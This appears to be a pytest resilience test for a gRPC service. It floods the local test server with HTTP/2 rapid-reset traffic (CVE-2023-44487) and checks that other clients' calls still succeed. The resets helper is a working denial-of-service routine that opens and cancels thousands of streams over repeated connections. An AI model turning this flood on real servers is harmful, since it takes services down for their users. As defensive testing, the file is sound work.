"""HTTP/2 rapid reset (CVE-2023-44487): streams that are opened and reset without end, straight at the port."""

from __future__ import annotations

import socket
import struct
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest

from tests.faults.conftest import Rig, Serve
from tests.world import GRANTS

HEADERS, RST_STREAM, SETTINGS = 0x1, 0x3, 0x4
END_HEADERS = 0x4
CANCEL = 8


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Returns a header that is not indexed (RFC 7541, 6.2.2); both are shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def resets(rig: Rig, stopping: threading.Event) -> int:
    """Opens and resets streams until told to stop, on as many connections as it takes. Returns how many."""
    path = (GRANTS + "ListGrants").encode()
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"a")]
    fields += [(b"content-type", b"application/grpc"), (b"te", b"trailers")]
    headers = b"".join(literal(name, value) for name, value in fields)
    count = 0
    while not stopping.is_set():
        with socket.create_connection((rig.grpc.host, rig.grpc.port), timeout=5) as connection:
            try:
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
                for stream in range(1, 40_001, 2):
                    if stopping.is_set():
                        break
                    reset = frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    connection.sendall(frame(HEADERS, END_HEADERS, stream, headers) + reset)
                    count += 1
            except OSError:
                # It is shown the door, and comes back.
                continue
    return count


@pytest.mark.native_only
def test_rapid_resets_do_not_fail_the_calls_of_others(serve: Serve) -> None:
    """grpcio answers most of them with CANCELLED; there, Envoy has to keep such clients away."""
    rig = serve()
    story = rig.story()
    stopping = threading.Event()

    with ThreadPoolExecutor(1) as pool:
        reset = pool.submit(resets, rig, stopping)
        codes = [story.call(story.alice, GRANTS + "ListGrants", {}).code for _ in range(50)]
        stopping.set()

    assert codes == ["OK"] * 50
    assert reset.result() > 100
